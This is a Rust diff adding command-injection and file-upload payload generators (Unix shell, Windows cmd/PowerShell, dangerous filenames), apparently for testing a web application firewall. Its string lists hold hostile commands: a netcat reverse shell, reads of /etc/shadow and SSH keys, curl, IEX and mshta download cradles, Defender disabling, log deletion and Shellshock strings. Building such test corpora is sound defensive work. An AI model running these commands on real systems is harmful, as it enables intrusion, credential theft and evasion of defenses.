@@ -69,6 +69,9 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         ("xss-context", xss_context),
         ("xss-encoded", xss_encoded),
         ("xss-template", xss_template),
+        ("rce-shell", rce_shell),
+        ("rce-win", rce_win),
+        ("rce-file", rce_file),
     ];
     let mut out = Vec::new();
     for (index, (family, generate)) in (0u64..).zip(families) {
@@ -82,6 +85,7 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
                 "ssrf" => url_request(&mut rng, &payload),
                 "proto" => proto_request(&mut rng, &payload),
                 "xss-context" | "xss-encoded" | "xss-template" => place_markup(&mut rng, &payload),
+                "rce-file" => upload_request(&mut rng, &payload),
                 _ => place(&mut rng, &payload),
             };
             out.push(Attack {
@@ -2058,4 +2062,291 @@ fn xss_template(rng: &mut Rng) -> String {
                 .join("+")
         }
     }
+}
+/// Unix command injection in the styles of the POSIX `sh` and `bash`
+/// grammars that [`rce`] does not write: redirections and assignments
+/// before the command word, process substitution, here-strings, ANSI-C
+/// quoting (`$'\x63at'`), substrings of variables (`${HOME:0:1}` for `/`),
+/// commands assembled from variables, line continuations, pipelines into
+/// a shell, base64 decoded into a shell, history expansion and Shellshock
+/// function definitions.
+fn rce_shell(rng: &mut Rng) -> String {
+    let (word, args) = shell_command(rng);
+    let line = match rng.below(12) {
+        0 => format!(
+            "<{} {word} {args}",
+            rng.pick(&["/dev/null", "/etc/hosts", "x"])
+        ),
+        1 => format!(
+            "{} {word} {args}",
+            rng.pick(&["LANG=C", "PATH=/bin:/usr/bin", "x=1 y=2", "IFS=,"])
+        ),
+        2 => format!(
+            "{} <({word} {args})",
+            rng.pick(&["cat", "bash", "sh", "source", "diff /dev/null"])
+        ),
+        3 => format!(
+            "{}<<<\"{word} {args}\"",
+            rng.pick(&["bash", "sh", "zsh", "dash"])
+        ),
+        4 => format!("{} {args}", ansi_c_quoted(rng, word)),
+        5 => format!(
+            "{word} {}",
+            args.replace('/', rng.pick(&["${HOME:0:1}", "${PWD:0:1}", "${PATH:0:1}"]))
+        ),
+        6 => {
+            let (a, b) = word.split_at(word.len() / 2);
+            let glue = rng.pick(&[";", "&&", " "]);
+            format!("a={a}{glue}b={b}{glue}$a$b {args}")
+        }
+        7 => {
+            let (a, b) = word.split_at(1);
+            format!("{a}\\\n{b} {args}")
+        }
+        8 => format!(
+            "echo {}|{}",
+            base64(format!("{word} {args}").as_bytes()),
+            rng.pick(&["base64 -d|sh", "base64 --decode|bash", "base64 -d|bash -s"])
+        ),
+        9 => format!(
+            "{} \"$({word} {args})\"",
+            rng.pick(&["echo", "printf %s", "nslookup", "ping -c 1"])
+        ),
+        10 => format!("{}{word} {args}", rng.pick(&["!-1;", "!!;", "!?x?;"])),
+        _ => {
+            format!(
+                "() {{ :;}}; {}",
+                rng.pick(&["/bin/bash -c", "/bin/sh -c", "/usr/bin/env bash -c"])
+            ) + &format!(" '{word} {args}'")
+        }
+    };
+    let sep = rng.pick(&[";", "|", "&&", "||", "\n", "$(", "`", "; ", " && "]);
+    let close = match sep {
+        "$(" => ")",
+        "`" => "`",
+        _ => "",
+    };
+    let context = rng.pick(&["1", "x", "", "127.0.0.1", "a.txt", "1'", "x\""]);
+    // Shellshock is a whole value (a header's or variable's), not a tail.
+    if line.starts_with("()") {
+        return line;
+    }
+    format!("{context}{sep}{line}{close}")
+}
+
+/// A Unix command and its arguments for [`rce_shell`]: the families of
+/// [`unix_command`] with other members.
+fn shell_command(rng: &mut Rng) -> (&'static str, &'static str) {
+    let commands = [
+        ("cat", "/etc/passwd"),
+        ("head", "-c 200 /etc/shadow"),
+        ("grep", "-r root /etc"),
+        ("find", "/ -perm -4000"),
+        ("ls", "-al /root"),
+        ("id", "-u"),
+        ("uname", "-r"),
+        ("wget", "-q -O- http://x.example/s"),
+        ("curl", "-fsSL http://x.example/s"),
+        ("nc", "192.0.2.7 4444 -e /bin/sh"),
+        ("bash", "-c id"),
+        ("python3", "-c 'import os;os.system(\"id\")'"),
+        ("chmod", "777 /tmp/s"),
+        ("rm", "-f /var/log/auth.log"),
+        ("sleep", "7"),
+        ("ping", "-c 4 192.0.2.7"),
+        ("dig", "+short x.example"),
+        ("awk", "'BEGIN{system(\"id\")}'"),
+    ];
+    commands[rng.below(commands.len())]
+}
+
+/// `word` in ANSI-C quoting, each letter or some as `\xHH` or `\OOO`.
+fn ansi_c_quoted(rng: &mut Rng, word: &str) -> String {
+    let octal = rng.chance(50);
+    let mut out = String::from("$'");
+    for b in word.bytes() {
+        if octal {
+            let _ = write!(out, "\\{b:03o}");
+        } else if rng.chance(70) {
+            let _ = write!(out, "\\x{b:02x}");
+        } else {
+            out.push(b as char);
+        }
+    }
+    out.push('\'');
+    out
+}
+
+/// Windows command injection in the styles of `cmd.exe` and `PowerShell`
+/// that [`windows_rce`] does not write: `cmd /c` and `/v:on` with delayed
+/// expansion, `%VAR:~x,y%` substrings, `for` loops, caret and quote
+/// splitting, `PowerShell` cmdlets (Verb-Noun) and their aliases,
+/// `-EncodedCommand` and its abbreviations, `IEX` cradles, `$env:`
+/// variables, `-f` format and `+` concatenation of command names, and the
+/// binaries that run code for an attacker (`rundll32`, `regsvr32`,
+/// `mshta`, `forfiles`).
+fn rce_win(rng: &mut Rng) -> String {
+    let command = match rng.below(10) {
+        0 => format!(
+            "cmd{} /{} {}",
+            rng.pick(&["", ".exe", ".EXE"]),
+            rng.pick(&["c", "C", "k", "r"]),
+            rng.pick(&["whoami", "\"net user\"", "type c:\\windows\\win.ini", "dir %USERPROFILE%"])
+        ),
+        1 => format!(
+            "cmd /v:on /c \"set a={}&& set b={}&& call !a!!b!\"",
+            rng.pick(&["who", "net", "ipcon"]),
+            rng.pick(&["ami", " user", "fig"])
+        ),
+        2 => format!(
+            "{} /c whoami",
+            rng.pick(&[
+                "%COMSPEC:~0%",
+                "%ComSpec:~-7,3%",
+                "%SystemRoot:~0,1%:\\windows\\system32\\cmd",
+                "%WINDIR:~0,3%system32\\cmd"
+            ])
+        ),
+        3 => format!(
+            "for /f \"tokens=*\" %{v} in ('{}') do {}",
+            rng.pick(&["whoami", "dir /b c:\\", "type c:\\boot.ini"]),
+            rng.pick(&["@echo %i", "nslookup %i.x.example", "curl http://x.example/?%i"]),
+            v = rng.pick(&["i", "a", "x"])
+        ),
+        4 => format!(
+            "{} {} {}",
+            rng.pick(&["powershell", "powershell.exe", "pwsh", "PowerShell -nop"]),
+            rng.pick(&["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeDcOmMaNd"]),
+            rng.pick(&["SQBFAFgAIAAoAGkAdwByACkA", "dwBoAG8AYQBtAGkA", "JABjAD0AbgBlAHcA"])
+        ),
+        5 => format!(
+            "{} {}",
+            rng.pick(&[
+                "Invoke-WebRequest -Uri http://x.example/s.exe -OutFile",
+                "iwr http://x.example/s.ps1 -OutFile",
+                "Start-BitsTransfer -Source http://x.example/s.exe -Destination",
+                "(New-Object System.Net.WebClient).DownloadFile('http://x.example/s.exe',",
+            ]),
+            rng.pick(&["$env:TEMP\\s.exe", "c:\\users\\public\\s.exe"])
+        ),
+        6 => rng
+            .pick(&[
+                "irm http://x.example/a | iex",
+                "IEX (iwr 'http://x.example/a' -UseBasicParsing)",
+                "Get-Content $env:USERPROFILE\\.ssh\\id_rsa",
+                "gci -Recurse c:\\users -Filter *.kdbx",
+                "Start-Process calc.exe",
+                "Stop-Service -Name WinDefend",
+                "Set-MpPreference -DisableRealtimeMonitoring $true",
+                "Get-WmiObject Win32_Process",
+                "Get-LocalUser",
+                "echo $env:COMPUTERNAME",
+                "& (\"{1}{0}\" -f 'ex','i') 'whoami'",
+                "&('In'+'voke-Expression') 'whoami'",
+                "[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA'))|iex",
+                "i`e`x (gc c:\\x.ps1)",
+                "${env:ComSpec} /c whoami",
+            ])
+            .to_owned(),
+        7 => rng
+            .pick(&[
+                "rundll32 url.dll,FileProtocolHandler calc.exe",
+                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
+                "regsvr32 /s /n /u /i:http://x.example/s.sct scrobj.dll",
+                "mshta http://x.example/s.hta",
+                "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\")",
+                "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
+                "certutil -decode s.b64 s.exe",
+                "wmic /node:127.0.0.1 process call create \"cmd /c whoami\"",
+                "schtasks /create /sc minute /tn x /tr c:\\s.exe",
+                "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+                "net1 user x P@ss /add",
+                "sc create x binPath= c:\\s.exe",
+            ])
+            .to_owned(),
+        8 => {
+            let word = rng.pick(&["whoami", "ipconfig", "systeminfo", "tasklist", "hostname"]);
+            let (a, b) = word.split_at(word.len() / 2);
+            match rng.below(3) {
+                0 => format!("{a}\"{b}\""),
+                1 => format!("{a}^{b}"),
+                _ => format!("\"{a}\"\"{b}\""),
+            }
+        }
+        _ => format!(
+            "ping -n {} {}",
+            rng.pick(&["3", "10", "21"]),
+            rng.pick(&["127.0.0.1", "x.example", "%USERNAME%.x.example"])
+        ),
+    };
+    let sep = rng.pick(&["&", "&&", "|", "||", "\r\n", "\n", " & ", " | ", ";"]);
+    let context = rng.pick(&["1", "x", "", "127.0.0.1", "a.txt", "x\"", "1'"]);
+    format!("{context}{sep}{command}")
+}
+
+/// The name of an uploaded file a web server or a shell would run or
+/// read as configuration (932180): shell and Windows scripts, dotfiles of
+/// shells, `.htaccess`, `.user.ini`, configuration files of web servers
+/// and applications (`wp-config.php`, `.env`, `web.config`) and their
+/// backups.
+fn rce_file(rng: &mut Rng) -> String {
+    let stem = rng.pick(&["shell", "x", "update", "run", "backup-2024", "a b"]);
+    match rng.below(5) {
+        0 => format!(
+            "{stem}.{}",
+            rng.pick(&["sh", "bash", "zsh", "ps1", "psm1", "bat", "cmd", "vbs", "hta", "wsf"])
+        ),
+        1 => rng
+            .pick(&[
+                ".htaccess",
+                ".htpasswd",
+                ".bashrc",
+                ".bash_profile",
+                ".profile",
+                ".zshrc",
+                ".user.ini",
+            ])
+            .to_owned(),
+        2 => format!(
+            "{}.{}",
+            rng.pick(&[
+                "wp-config.php",
+                "config.php",
+                "settings.py",
+                "database.yml",
+                "web.config"
+            ]),
+            rng.pick(&["bak", "old", "orig", "save", "swp", "tmp"])
+        ),
+        3 => format!("{stem}.{}", rng.pick(&["SH", "Ps1", "sh.", "bat "])),
+        // The configuration a web server or an application reads from its
+        // own directory.
+        _ => rng
+            .pick(&[
+                "wp-config.php",
+                "settings.php",
+                "settings.local.php",
+                ".env",
+                ".env.production",
+                "config.yml",
+                "parameters.yaml",
+                "services.yml",
+                "local.xml",
+                "web.config",
+                "php.ini",
+                ".htdigest",
+            ])
+            .to_owned(),
+    }
+}
+
+/// An upload carrying the file named `name` (a multipart form).
+fn upload_request(rng: &mut Rng, name: &str) -> Request<'static> {
+    let boundary = "----formdata7MA4YWxk";
+    let field = rng.pick(&["file", "upload", "attachment", "avatar"]);
+    let body = format!(
+        "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\n\
+         Content-Type: application/octet-stream\r\n\r\n\x00\x01data\r\n--{boundary}--\r\n"
+    );
+    Request::new("POST", "/upload").body(format!("multipart/form-data; boundary={boundary}"), body)
 }
